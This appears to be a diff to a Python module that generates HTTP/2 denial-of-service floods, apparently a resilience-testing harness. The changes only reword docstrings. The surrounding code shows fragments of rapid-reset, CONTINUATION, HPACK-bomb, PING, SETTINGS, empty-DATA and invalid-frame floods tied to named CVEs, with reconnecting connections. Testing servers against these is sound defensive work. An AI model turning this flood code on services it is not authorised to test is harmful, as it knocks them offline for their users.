@@ -1,4 +1,4 @@
-"""HTTP/2 frames in numbers, which a library would not send."""
+"""Floods of HTTP/2 frames that a client library would not send."""
 
 from __future__ import annotations
 
@@ -31,7 +31,7 @@ Burst = Callable[[Target, int], Iterator[Frame]]
 
 def flood(burst: Burst, *, connections: int = 4) -> Attack:
     """
-    Return the attack of *connections* that send *burst* after burst; who is cut off comes again.
+    Return the attack of *connections* that send *burst* repeatedly and reconnect when they are closed.
     """
 
     async def attack(target: Target) -> Answers:
@@ -62,12 +62,12 @@ async def _pour(target: Target, burst: Burst, end: float) -> str:
             if time.monotonic() > end:
                 return "held"
             if reader.at_eof():
-                return "cut off"
+                return "closed"
             await _drop(reader)
     except TimeoutError:
         return "not read"
     except OSError:
-        return "cut off"
+        return "closed"
     finally:
         writer.transport.abort()
     return "all sent"
@@ -83,7 +83,7 @@ async def _drop(reader: asyncio.StreamReader) -> None:
 
 
 def _head(target: Target, stream: int, path: str, *, ends: bool = True) -> HeadersFrame:
-    # Literals only (RFC 7541, 6.2.2), so that the frames of a connection do not depend on each other.
+    # Literals only (RFC 7541, 6.2.2), so that the frames of a connection are independent of each other.
     headers = [(name, value, True) for name, value in call(path, b"", target.bearer).headers]
     flags = ["END_HEADERS", *(["END_STREAM"] if ends else [])]
     return HeadersFrame(stream, Encoder().encode(headers, huffman=False), flags=flags)
@@ -91,7 +91,7 @@ def _head(target: Target, stream: int, path: str, *, ends: bool = True) -> Heade
 
 def rapid_resets(target: Target, number: int) -> Iterator[Frame]:
     """
-    Calls that are taken back at once (CVE-2023-44487).
+    Send calls and reset them immediately (CVE-2023-44487, rapid reset).
     """
     for each in range(FRAMES_A_BURST):
         stream = 2 * (number * FRAMES_A_BURST + each) + 1
@@ -101,7 +101,7 @@ def rapid_resets(target: Target, number: int) -> Iterator[Frame]:
 
 def continuations(target: Target, number: int) -> Iterator[Frame]:
     """
-    A head that goes on and on (CVE-2024-27983 and its brothers).
+    Send headers continued without end (CVE-2024-27983 and similar).
     """
     if number == 0:
         head = _head(target, 1, PRODUCTS)
@@ -114,7 +114,7 @@ def continuations(target: Target, number: int) -> Iterator[Frame]:
 
 def hpack_bomb(target: Target, number: int) -> Iterator[Frame]:
     """
-    A header of 3.9 kB, stored once and named 4,000 times a call by one byte each.
+    Send a header of 3.9 kB once, and reference it 4,000 times per call by one byte each (HPACK bomb).
     """
     encoder = Encoder()
     right = call(PRODUCTS).headers
@@ -128,7 +128,7 @@ def hpack_bomb(target: Target, number: int) -> Iterator[Frame]:
 
 def settings(_: Target, number: int) -> Iterator[Frame]:
     """
-    Settings that each must be acknowledged.
+    Send SETTINGS frames, each of which must be acknowledged.
     """
     for each in range(FRAMES_A_BURST):
         yield SettingsFrame(0, settings={4: 65535 - each % 2, 1: 4096 * (number % 2)})
@@ -136,7 +136,7 @@ def settings(_: Target, number: int) -> Iterator[Frame]:
 
 def pings(_: Target, number: int) -> Iterator[Frame]:
     """
-    Pings that each must be answered.
+    Send PING frames, each of which must be answered.
     """
     for each in range(FRAMES_A_BURST):
         yield PingFrame(0, opaque_data=(number * FRAMES_A_BURST + each).to_bytes(8, "big"))
@@ -144,7 +144,7 @@ def pings(_: Target, number: int) -> Iterator[Frame]:
 
 def priorities(_: Target, number: int) -> Iterator[Frame]:
     """
-    Priorities of streams that there never were.
+    Send PRIORITY frames for streams that do not exist.
     """
     for each in range(FRAMES_A_BURST):
         yield PriorityFrame(2 * (number * FRAMES_A_BURST + each) + 1, depends_on=0, stream_weight=each % 256)
@@ -152,7 +152,7 @@ def priorities(_: Target, number: int) -> Iterator[Frame]:
 
 def empty_data(target: Target, number: int) -> Iterator[Frame]:
     """
-    Frames with no data, on a call that never ends (CVE-2019-9518).
+    Send empty DATA frames on a call that never ends (CVE-2019-9518).
     """
     if number == 0:
         yield _head(target, 1, PRODUCTS, ends=False)
@@ -162,7 +162,7 @@ def empty_data(target: Target, number: int) -> Iterator[Frame]:
 
 def windows(target: Target, number: int) -> Iterator[Frame]:
     """
-    Windows that grow by a byte at a time.
+    Send WINDOW_UPDATE frames of one byte.
     """
     if number == 0:
         yield _head(target, 1, PRODUCTS, ends=False)
@@ -172,7 +172,7 @@ def windows(target: Target, number: int) -> Iterator[Frame]:
 
 def broken(target: Target, number: int) -> Iterator[Frame]:
     """
-    Frames that no state of a connection allows.
+    Send frames that are invalid in every state of a connection.
     """
     yield _head(target, 2, PRODUCTS)
     yield DataFrame(2 * number + 1001, b"x")
